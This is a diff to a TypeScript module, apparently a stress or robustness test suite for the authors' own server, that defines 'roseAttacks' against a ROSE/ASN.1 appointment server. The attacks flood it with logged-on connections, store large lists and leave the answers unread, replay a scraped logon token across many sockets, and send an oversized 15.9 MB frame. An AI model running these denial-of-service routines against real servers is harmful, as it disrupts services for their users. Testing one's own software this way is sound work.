@@ -20,28 +20,28 @@ import { invoke, invokeJson, jsonFrame, jsonInvoke, logon, logonOf, marks } from
 import { answer, press, Sockets, whileItLasts } from "./sockets.js";
 
 /** A connection that is logged on with the attacker's account. */
-async function inside(sockets: Sockets, { rose, user, password }: Target) {
+async function inside(sockets: Sockets, { rose, user, password }: Target, scale: Scale) {
   const socket = await sockets.open(rose);
   socket?.write(logon(user, password));
-  if (socket !== undefined) await answer(socket, 2000);
+  if (socket !== undefined) await answer(socket, 2000, scale);
   return socket;
 }
 
 /** Sends a frame again and again over connections of a kind, each as often as it is taken. */
 function repeated(
   frames: (some: Scale["some"]) => readonly (Uint8Array | string)[],
-  open: (sockets: Sockets, target: Target) => ReturnType<Sockets["open"]>,
+  open: (sockets: Sockets, target: Target, scale: Scale) => ReturnType<Sockets["open"]>,
 ): Attack {
   return async (target, scale) => {
     const sockets = new Sockets();
     const said = frames(scale.some);
     await whileItLasts(scale, async () => {
       for (const frame of said) {
-        const socket = await open(sockets, target);
+        const socket = await open(sockets, target, scale);
         if (socket === undefined) continue;
         socket.resume();
         await press(socket, frame, scale.time);
-        await answer(socket, 300);
+        await answer(socket, 300, scale);
         socket.destroy();
       }
     });
@@ -103,9 +103,9 @@ const entry = (id: number, octets: number): AsnAppointmentEntry => ({
 });
 
 /** The frame of a logon with a token, which costs no hash, for somebody who is logged on. */
-async function tokenLogon(socket: Socket): Promise<Uint8Array> {
+async function tokenLogon(socket: Socket, scale: Scale): Promise<Uint8Array> {
   socket.write(invoke(asnGetUserToken, { iType: AsnUserTokenType.values.eUserTokenLogin }, 2));
-  const said = (await answer(socket, 1000)).toString("latin1");
+  const said = (await answer(socket, 1000, scale)).toString("latin1");
   const token = /ey[\w-]+\.[\w-]+\.[\w-]+/.exec(said)?.[0] ?? "none";
   const enhanced = {
     u8sClientUsername: "",
@@ -117,14 +117,16 @@ async function tokenLogon(socket: Socket): Promise<Uint8Array> {
 }
 
 /** Has the server keep a long list, of many entries and a long one. */
-async function store(socket: Socket): Promise<void> {
-  const said: Promise<Buffer> = answer(socket, 3000);
+async function store(socket: Socket, scale: Scale): Promise<void> {
   const appointments = Array.from({ length: 2000 }, (_, id) => entry(id, 300));
   socket.write(
     invoke(asnAppointmentSetEntryList, { u8sOwner: "", appointments, u8sDataSource: "" }, 2),
   );
   socket.write(invoke(asnAppointmentSetEntry, { appointment: entry(3000, 3_000_000) }, 3000));
-  const results = (await said).toString("hex");
+  let results = "";
+  while (!/a20.*a20/.test(results) && socket.readyState === "open") {
+    results += (await answer(socket, 3000, scale)).toString("hex");
+  }
   if (!/a20.*a20/.test(results)) throw new Error(`not stored: ${results}`);
 }
 
@@ -171,7 +173,7 @@ export const roseAttacks: Readonly<Record<string, Attack>> = {
   "small messages without a pause, the answers left unread": async (target, scale) => {
     const sockets = new Sockets();
     const open = await Promise.all(
-      Array.from({ length: scale.some(40) }, () => inside(sockets, target)),
+      Array.from({ length: scale.some(40) }, () => inside(sockets, target, scale)),
     );
     const unknown = Buffer.from("a10802010502030fffff", "hex");
     const list = invoke(asnAppointmentGetAllEntriesForUser, { u8sOwner: "" }, 3);
@@ -188,9 +190,9 @@ export const roseAttacks: Readonly<Record<string, Attack>> = {
   },
   "large lists that are left unread": async (target, scale) => {
     const sockets = new Sockets();
-    const first = (await inside(sockets, target))!;
-    await store(first);
-    const again = await tokenLogon(first);
+    const first = (await inside(sockets, target, scale))!;
+    await store(first, scale);
+    const again = await tokenLogon(first, scale);
     const crowd = await sockets.crowd(target.rose, scale.some(200), () => again);
     // Not all can be checked within the time that silence means something.
     await Promise.all(crowd.map((socket) => once(socket, "data")));
@@ -223,10 +225,10 @@ export const roseAttacks: Readonly<Record<string, Attack>> = {
     const crowd = await sockets.crowd(rose, scale.some(40), () => wish);
     await Promise.all(
       crowd.map(async (socket) => {
-        const said = await answer(socket, 1000);
+        const said = await answer(socket, 1000, scale);
         const name = /anonymous-[\da-f-]{36}/.exec(said.toString("latin1"))?.[0] ?? "none";
         socket.write(logon(name, "", 2));
-        await answer(socket, 500);
+        await answer(socket, 500, scale);
         const size = 15_900_000;
         socket.write(Buffer.from([0xa1, 0x83, size >> 16, (size >> 8) & 255, size & 255]));
         await press(socket, Buffer.alloc(size - 100), scale.time / 2);
